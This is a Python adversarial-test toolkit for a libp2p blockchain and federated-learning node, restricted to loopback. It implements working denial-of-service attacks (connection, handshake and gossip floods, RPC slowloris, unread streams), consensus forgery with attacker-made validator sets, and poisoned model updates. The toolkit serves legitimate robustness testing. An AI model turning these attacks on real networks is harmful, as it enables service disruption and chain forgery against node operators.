"""The hostile-peer toolkit: an attacker process that is a real libp2p peer with a valid
identity key, built from the project's own protocol modules (``node.p2p.Host``, its
GossipSub service, request/response, the canonical codec), that attacks one live node
over loopback (issue 15).

Each attack is an async function of an ``Attacker`` (its host, its GossipSub service, the
victim's peer ID and the chain's topics) that runs until the process is told to stop
(SIGTERM) or its ``--seconds`` run out, and is bounded in count and bytes besides
(the module constants below): a test that forgets the attacker cannot take the machine
down with it. Everything is on 127.0.0.1, and the host, its sockets and tasks are closed
on the way out.

Run as ``python -m tests.hostile.toolkit ATTACK --target /ip4/127.0.0.1/tcp/P/p2p/ID
--seconds S [--home NODE_HOME --rpc URL]``. It prints JSON lines on stdout: first
``{"peer_id": ...}`` (the attacker's identity, to look up its standing on the victim),
then ``{"engaged": ...}`` once the attack is in force, and last ``{"done": ..., <counts>}``.

Attacks (``ATTACKS``):

- ``unread_streams``: one connection, many streams that each push a window's worth of
  bytes at a handler that never reads them (identify answers and half-closes), and the
  attacker never reads or closes its side: memory held for it on the victim.
- ``conn_flood``: many authenticated connections from the same identity (dialled
  without a peer ID, so the host opens a new one each time), re-dialled when dropped.
- ``handshake_flood``: many raw sockets that select Noise and then stall, so they sit in
  the victim's handshake; each one closed is reopened at once.
- ``status_flood``: unsigned Tendermint status messages claiming height 1 on the
  consensus topic; every node that believes one sends the "lagging" author decisions
  (an amplification).
- ``junk_flood``: 1 MiB of random bytes per message, signed by the attacker's key, on
  the consensus topic (they pass the size-only topic validator and are relayed).
- ``poisoned_relay``: every genuine proposal seen on the consensus topic is relayed again
  with junk bytes in front, under the attacker's own signature.
- ``forged_catchup``: a validator set of the attacker's own keys certifies forged blocks
  past the victim's height; it answers lag probes, block sync and checkpoint requests
  with them and publishes them as Tendermint decisions.
- ``bad_updates``: model updates signed with a real trainer key (``--home``) that no
  proposer could aggregate, on the gossip topics: a NaN payload, a payload trained from
  another model than the tx names, and the update tx without its payload (txs topic).
- ``rpc_slowloris``: many RPC connections that send a request head a byte at a time and
  never finish it, reopened when the node closes them (no libp2p identity at all).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import signal
import sys
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np

from consensus.tendermint.messages import DecisionMsg, Envelope, ProposalMsg, StatusMsg
from consensus.tendermint.valset import ScheduleRecord, TendermintCheckpoint
from consensus.types import Commit, CommitSig, Validator, ValidatorSet, Vote, VoteType
from fl.attacks import nan_update
from fl.models import architecture
from fl.update import ModelUpdate as Payload
from fl.update import encode_update
from node.app.updates import payload_base
from node.core.crypto import PrivateKey
from node.home import Home
from node.ledger.block import Block
from node.p2p import identify
from node.p2p import multistream as ms
from node.p2p.behaviour import DialError
from node.p2p.connection import Stream, StreamReset
from node.p2p.gossipsub.service import GossipSub, Received
from node.p2p.host import Host
from node.p2p.multiaddr import Multiaddr
from node.p2p.peer_id import IdentityKey, PeerID
from node.p2p.reqresp import ReqRespConfig, RequestError, RequestResponse
from node.rpc.client import RPCClient, RPCClientError
from node.services.block_sync import (
    BLOCKS_PROTOCOL,
    CHECKPOINT_PROTOCOL,
    PROBE_PROTOCOL,
    BlocksRequest,
    BlocksResponse,
    CertifiedHeader,
    CheckpointResponse,
    ProbeResponse,
    SyncedBlock,
)
from node.services.gossip_topics import Topics, UpdateGossip
from tests.kits.updates import signed_update

__all__ = ["ATTACKS", "Attacker", "main"]

# Bounds on what one attacker process sends, whatever --seconds says.
UNREAD_STREAMS = 48
UNREAD_BYTES_PER_STREAM = 12 << 20  # within the most a victim's stream window may grow to
WINDOW_WAIT = 2.0  # how long a write may wait for window before the stream counts as held
FLOOD_CONNECTIONS = 64
HANDSHAKE_SOCKETS = 200
STATUS_PER_SECOND = 400
MAX_STATUS = 40_000
JUNK_BYTES = 1 << 20
JUNK_PER_SECOND = 8
MAX_JUNK = 400
MAX_RELAYS = 2_000
BAD_UPDATES_PER_SECOND = 4
SLOWLORIS_SOCKETS = 200
FORGED_VALIDATORS = 4
MAX_SECONDS = 120.0


@dataclass
class Attacker:
    """A libp2p peer of its own identity, connected to the victim, in the chain's topics."""

    target: Multiaddr
    chain_id: str
    deadline: float
    stop: asyncio.Event = field(default_factory=asyncio.Event)
    identity: IdentityKey = field(default_factory=IdentityKey.generate)
    counts: dict[str, int] = field(default_factory=dict)
    home: Path | None = None
    rpc_url: str | None = None

    def __post_init__(self) -> None:
        self.host = Host(self.identity, listen=[Multiaddr.parse("/ip4/127.0.0.1/tcp/0")])
        self.topics = Topics(self.chain_id)
        self.gossip = GossipSub(self.host, msg_id_fn=self.topics.message_id)
        victim = self.target.peer_id
        assert victim is not None, "the target address needs its /p2p/ peer ID"
        self.victim: PeerID = victim

    def count(self, what: str, n: int = 1) -> None:
        self.counts[what] = self.counts.get(what, 0) + n

    @property
    def running(self) -> bool:
        return not self.stop.is_set() and time.monotonic() < self.deadline

    async def pause(self, seconds: float) -> None:
        """Wait ``seconds`` or until told to stop."""
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(self.stop.wait(), min(seconds, self.remaining()))

    def remaining(self) -> float:
        return max(0.0, self.deadline - time.monotonic())

    async def connect(self) -> None:
        await self.host.start()
        await self.gossip.start()
        await self.host.connect(self.target)

    async def close(self) -> None:
        await self.gossip.close()
        await self.host.close()

    async def join(self, topic: str, on_message: Callable[[Received], None] | None = None) -> None:
        """Subscribe to ``topic`` and wait until the victim's subscription is known, so
        that what is published reaches it."""
        self.gossip.subscribe(topic, on_message)
        while self.running and self.victim not in self.gossip.router.topic_peers.get(topic, ()):
            await self.pause(0.05)

    async def publish(self, topic: str, data: bytes) -> None:
        try:
            await self.gossip.publish(topic, data)
            self.count("published")
        except ValueError:
            self.count("publish_refused")

    def rpc(self) -> RPCClient:
        assert self.rpc_url is not None, "this attack needs --rpc"
        return RPCClient(self.rpc_url, timeout=5.0)


Engaged = Callable[[], None]
Attack = Callable[[Attacker, Engaged], Awaitable[None]]


# --------------------------------------------------------------------------- transport


async def unread_streams(a: Attacker, engaged: Engaged) -> None:
    junk = os.urandom(64 << 10)  # small writes: what was sent is what the victim let in
    held: list[Stream] = []
    for _ in range(UNREAD_STREAMS):
        if not a.running:
            break
        try:
            st = await a.host.new_stream(a.victim, [identify.PROTOCOL_ID])
            sent = 0
            with contextlib.suppress(TimeoutError):  # the victim stopped granting window
                async with asyncio.timeout(min(WINDOW_WAIT, a.remaining() + 0.1)):
                    while sent < UNREAD_BYTES_PER_STREAM and a.running:
                        await st.write(junk)
                        sent += len(junk)
        except (StreamReset, ConnectionError, TimeoutError, ms.MultistreamError, DialError):
            a.count("stream_refused")
            if not a.host.is_connected(a.victim):
                break  # cut off: the victim stopped holding anything for us
            continue
        held.append(st)
        a.count("bytes_unread", sent)
        if len(held) == 4:
            engaged()
    engaged()
    a.count("streams_held", len(held))
    while a.running:
        await a.pause(0.5)


async def conn_flood(a: Attacker, engaged: Engaged) -> None:
    addr = a.target.without_peer_id()  # no peer ID: the host dials anew every time
    first = True
    while a.running:
        open_now = len(a.host.connections(a.victim))
        if open_now >= FLOOD_CONNECTIONS:
            if first:
                first = False
                engaged()
            await a.pause(0.2)
            continue
        try:
            async with asyncio.timeout(5.0):
                await a.host.connect(addr)
            a.count("connections_opened")
        except (DialError, TimeoutError):
            a.count("connections_refused")
            await a.pause(0.05)
        tried = a.counts.get("connections_opened", 0) + a.counts.get("connections_refused", 0)
        if first and tried >= FLOOD_CONNECTIONS:
            first = False  # what the victim closes or refuses over its cap still counts
            engaged()


async def _swarm(a: Attacker, engaged: Engaged, n: int, one: Callable[[], Awaitable[None]]) -> None:
    """Run ``n`` copies of the socket loop ``one`` until the attack ends; cancel the rest."""
    tasks = [asyncio.ensure_future(one()) for _ in range(n)]
    await a.pause(1.0)
    engaged()
    try:
        await asyncio.gather(*tasks)
    finally:
        for t in tasks:
            t.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def handshake_flood(a: Attacker, engaged: Engaged) -> None:
    host, port = a.target.tcp_endpoint()
    hello = ms.encode_message(ms.PROTOCOL_ID) + ms.encode_message("/noise")
    writers: set[asyncio.StreamWriter] = set()

    async def one() -> None:
        while a.running:
            try:
                reader, writer = await asyncio.open_connection(host, port)
            except OSError:
                a.count("sockets_refused")
                await a.pause(0.05)
                continue
            writers.add(writer)
            a.count("sockets_opened")
            try:
                writer.write(hello)
                await writer.drain()
                stop = asyncio.ensure_future(a.stop.wait())
                read = asyncio.ensure_future(reader.read(65536))
                # Stall in the handshake: read what the victim says until it gives up.
                while a.running:
                    done, _ = await asyncio.wait({stop, read}, timeout=a.remaining())
                    if read not in done:
                        break
                    if not read.result():
                        a.count("sockets_closed_by_victim")
                        break
                    read = asyncio.ensure_future(reader.read(65536))
                for fut in (stop, read):
                    fut.cancel()
            except (OSError, ConnectionError):
                a.count("sockets_closed_by_victim")
            finally:
                writers.discard(writer)
                writer.close()

    await _swarm(a, engaged, HANDSHAKE_SOCKETS, one)


async def rpc_slowloris(a: Attacker, engaged: Engaged) -> None:
    assert a.rpc_url is not None, "rpc_slowloris needs --rpc"
    hostport = a.rpc_url.split("//", 1)[1].rstrip("/")
    host, port = hostport.rsplit(":", 1)
    head = f"GET /status HTTP/1.1\r\nHost: {host}\r\nX-Slow: ".encode()

    async def one() -> None:
        while a.running:
            try:
                reader, writer = await asyncio.open_connection(host, int(port))
            except OSError:
                a.count("sockets_refused")
                await a.pause(0.05)
                continue
            a.count("sockets_opened")
            try:
                writer.write(head[:8])
                await writer.drain()
                sent = 8
                while a.running:
                    await a.pause(1.0)
                    if reader.at_eof():
                        a.count("sockets_closed_by_victim")
                        break
                    writer.write(head[sent : sent + 1] if sent < len(head) else b"a")
                    await writer.drain()
                    sent += 1
            except (OSError, ConnectionError):
                a.count("sockets_closed_by_victim")
            finally:
                writer.close()

    await _swarm(a, engaged, SLOWLORIS_SOCKETS, one)


# --------------------------------------------------------------------------- consensus topic


async def status_flood(a: Attacker, engaged: Engaged) -> None:
    await a.join(a.topics.consensus)
    status = Envelope(StatusMsg(1, 0)).encode()
    engaged()
    sent = 0
    while a.running and sent < MAX_STATUS:
        for _ in range(STATUS_PER_SECOND // 10):
            await a.publish(a.topics.consensus, status)
            sent += 1
        await a.pause(0.1)


async def junk_flood(a: Attacker, engaged: Engaged) -> None:
    await a.join(a.topics.consensus)
    engaged()
    sent = 0
    while a.running and sent < MAX_JUNK:
        await a.publish(a.topics.consensus, os.urandom(JUNK_BYTES))
        sent += 1
        await a.pause(1.0 / JUNK_PER_SECOND)


async def poisoned_relay(a: Attacker, engaged: Engaged) -> None:
    proposals: asyncio.Queue[bytes] = asyncio.Queue(64)

    def seen(rec: Received) -> None:
        try:
            msg = Envelope.decode(rec.data).msg
        except Exception:
            return
        if isinstance(msg, ProposalMsg):
            with contextlib.suppress(asyncio.QueueFull):
                proposals.put_nowait(rec.data)

    await a.join(a.topics.consensus, seen)
    first = True
    relayed = 0
    while a.running and relayed < MAX_RELAYS:
        try:
            async with asyncio.timeout(min(1.0, a.remaining() + 0.01)):
                data = await proposals.get()
        except TimeoutError:
            continue
        for junk in (b"\x00", os.urandom(16), b"\xc1" * 64):
            await a.publish(a.topics.consensus, junk + data)
            relayed += 1
        a.count("proposals_poisoned")
        if first:
            first = False
            engaged()


# --------------------------------------------------------------------------- forged catch-up


@dataclass
class Forgery:
    """Blocks past the victim's height, certified by validators of the attacker's own."""

    chain_id: str
    keys: list[PrivateKey]
    blocks: list[SyncedBlock] = field(default_factory=list)

    @property
    def vset(self) -> ValidatorSet:
        vals = sorted((Validator(k.public_key, 10) for k in self.keys), key=lambda v: v.address)
        return ValidatorSet(tuple(vals))

    def certify(self, block: Block) -> Commit:
        h = block.header
        vote = Vote(
            self.chain_id, h.height, 0, int(VoteType.PRECOMMIT), h.hash, b"\0" * 20, b"\0" * 64
        )
        sigs = [
            CommitSig(k.address, k.sign(vote.sign_bytes()))
            for k in sorted(self.keys, key=lambda k: k.address)
        ]
        return Commit(h.height, 0, h.hash, tuple(sigs))

    def extend(self, genuine: SyncedBlock, count: int) -> None:
        """Forge ``count`` blocks on top of ``genuine``, each certified by our keys."""
        prev, prev_commit = genuine.block, genuine.commit
        for _ in range(count):
            header = prev.header.replace(
                height=prev.header.height + 1,
                time_ms=prev.header.time_ms + 1000,
                prev_hash=prev.header.hash,
                proposer=self.keys[0].address,
                validators_hash=self.vset.hash,
            )
            block = Block(header, (), prev_commit)
            commit = self.certify(block)
            self.blocks.append(SyncedBlock(block, commit))
            prev, prev_commit = block, commit

    def probe(self) -> bytes:
        tip = self.blocks[-1].block.header.height + 1000
        heights = tuple(CertifiedHeader(b.block.header, b.commit) for b in self.blocks[:2])
        return ProbeResponse(tip, heights).encode()

    def checkpoint(self) -> bytes:
        last = self.blocks[-1]
        vs = self.vset
        sched = ScheduleRecord(vs, tuple(0 for _ in vs.validators), vs.validators[0].address)
        data = TendermintCheckpoint(
            last.block.header.height + 1, sched, sched, last.commit, last.block.encode()
        ).encode()
        return CheckpointResponse(last.block.header.height, data).encode()

    def answer_blocks(self, raw: bytes) -> bytes:
        req = BlocksRequest.decode(raw)
        got = tuple(b for b in self.blocks if b.block.header.height >= req.start)
        tip = self.blocks[-1].block.header.height + 1000
        return BlocksResponse(tip, got[: max(1, min(req.count, 64))]).encode()


async def forged_catchup(a: Attacker, engaged: Engaged) -> None:
    forgery = Forgery(a.chain_id, [PrivateKey.generate() for _ in range(FORGED_VALIDATORS)])

    async def on_probe(peer: PeerID, data: bytes) -> bytes:
        a.count("probes_answered")
        return forgery.probe()

    async def on_blocks(peer: PeerID, data: bytes) -> bytes:
        a.count("block_requests_answered")
        return forgery.answer_blocks(data)

    async def on_checkpoint(peer: PeerID, data: bytes) -> bytes:
        a.count("checkpoints_answered")
        return forgery.checkpoint()

    cfg = ReqRespConfig(max_request=1 << 16, max_response=64 << 20, timeout=10.0)
    blocks = RequestResponse(a.host, BLOCKS_PROTOCOL, None, cfg)
    tip = 0
    while a.running and not forgery.blocks:
        try:
            tip = int(a.rpc().get_json("/status")["latest_height"])
            raw = await blocks.request(a.victim, BlocksRequest(tip, 1).encode())
            genuine = BlocksResponse.decode(raw).blocks[0]
        except (RPCClientError, RequestError, KeyError, IndexError, ValueError) as e:
            a.count("genuine_block_missing")
            print(f"no genuine block yet: {e!r}", file=sys.stderr)
            await a.pause(0.5)
            continue
        forgery.extend(genuine, 8)
    RequestResponse(a.host, PROBE_PROTOCOL, on_probe, cfg)
    RequestResponse(a.host, BLOCKS_PROTOCOL, on_blocks, cfg)
    RequestResponse(a.host, CHECKPOINT_PROTOCOL, on_checkpoint, cfg)
    await a.join(a.topics.consensus)
    engaged()
    while a.running:
        for b in forgery.blocks[:2]:
            await a.publish(
                a.topics.consensus, Envelope(DecisionMsg(b.commit, b.block.encode())).encode()
            )
        if not a.host.is_connected(a.victim):
            with contextlib.suppress(DialError, TimeoutError):
                async with asyncio.timeout(2.0):
                    await a.host.connect(a.target)
                a.count("reconnected")
        await a.pause(0.5)


# --------------------------------------------------------------------------- FL updates


async def bad_updates(a: Attacker, engaged: Engaged) -> None:
    assert a.home is not None, "bad_updates needs --home (the trainer key to abuse)"
    home = Home(a.home)
    key, genesis = home.validator_key(), home.genesis()
    arch = genesis.fl.model
    await a.join(a.topics.updates)
    await a.join(a.topics.txs)
    rpc = a.rpc()
    first = True
    n = 0
    while a.running:
        try:
            info = rpc.get_json("/model/info")
            nonce = int(rpc.get_json(f"/accounts/{key.address.hex()}")["next_nonce"])
        except (RPCClientError, KeyError, TypeError, ValueError):
            await a.pause(0.5)
            continue
        round_ = int(info["fl_round"])
        base = bytes.fromhex(info["chain_model_hash"])
        n += 1
        value = 0.001 * n  # every message a new one, so none is a seen-cache duplicate

        def payload(trained_from: bytes, v: float = value, r: int = round_) -> bytes:
            delta = {t.name: np.full(t.shape, v, np.float32) for t in architecture(arch).tensors}
            return encode_update(
                delta, arch=arch, base_hash=trained_from, round_=r, num_samples=100
            ).encode()

        honest_looking = payload(payload_base(genesis.fl, base))
        nan = nan_update(Payload.decode(honest_looking))
        wrong_base = payload(b"\x42" * 32)
        for p in (nan, wrong_base):
            tx = signed_update(
                key, genesis, p, round=round_, base_ledger_hash=base, samples=100, nonce=nonce
            )
            await a.publish(a.topics.updates, UpdateGossip(tx.encode(), p).encode())
        bare = signed_update(
            key, genesis, honest_looking, round=round_, base_ledger_hash=base, samples=100,
            nonce=nonce,
        )  # fmt: skip
        await a.publish(a.topics.txs, bare.encode())
        a.count("bad_update_sets")
        if first:
            first = False
            engaged()
        await a.pause(1.0 / BAD_UPDATES_PER_SECOND)


ATTACKS: dict[str, Attack] = {
    "unread_streams": unread_streams,
    "conn_flood": conn_flood,
    "handshake_flood": handshake_flood,
    "rpc_slowloris": rpc_slowloris,
    "status_flood": status_flood,
    "junk_flood": junk_flood,
    "poisoned_relay": poisoned_relay,
    "forged_catchup": forged_catchup,
    "bad_updates": bad_updates,
}
# Attacks that need no libp2p connection of their own (raw sockets only).
RAW = {"handshake_flood", "rpc_slowloris"}


def _say(**doc: object) -> None:
    print(json.dumps(doc), flush=True)


async def run(args: argparse.Namespace) -> dict[str, int]:
    a = Attacker(
        Multiaddr.parse(args.target),
        args.chain_id,
        time.monotonic() + min(args.seconds, MAX_SECONDS),
        home=Path(args.home) if args.home else None,
        rpc_url=args.rpc,
    )
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, a.stop.set)
    loop.add_signal_handler(signal.SIGINT, a.stop.set)
    _say(peer_id=a.identity.peer_id.to_base58())
    told = False

    def engaged() -> None:
        nonlocal told
        if not told:
            told = True
            _say(engaged=args.attack, counts=a.counts)

    try:
        if args.attack in RAW:
            await a.host.start()
        else:
            await a.connect()
        attack = asyncio.ensure_future(ATTACKS[args.attack](a, engaged))
        stopped = asyncio.ensure_future(a.stop.wait())
        await asyncio.wait({attack, stopped}, timeout=a.remaining() + 1.0)
        for fut in (attack, stopped):
            fut.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await attack
    finally:
        await a.close()
    return a.counts


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("attack", choices=sorted(ATTACKS))
    ap.add_argument("--target", required=True, help="/ip4/127.0.0.1/tcp/PORT/p2p/PEERID")
    ap.add_argument("--chain-id", required=True)
    ap.add_argument("--seconds", type=float, default=30.0)
    ap.add_argument("--home", default=None, help="a node home whose trainer key to abuse")
    ap.add_argument("--rpc", default=None, help="RPC URL of the victim")
    args = ap.parse_args(argv)
    if not args.target.startswith(("/ip4/127.", "/ip6/::1/")):
        ap.error("the toolkit attacks loopback addresses only")
    counts = asyncio.run(run(args))
    _say(done=args.attack, counts=counts)
    return 0


if __name__ == "__main__":
    sys.exit(main())
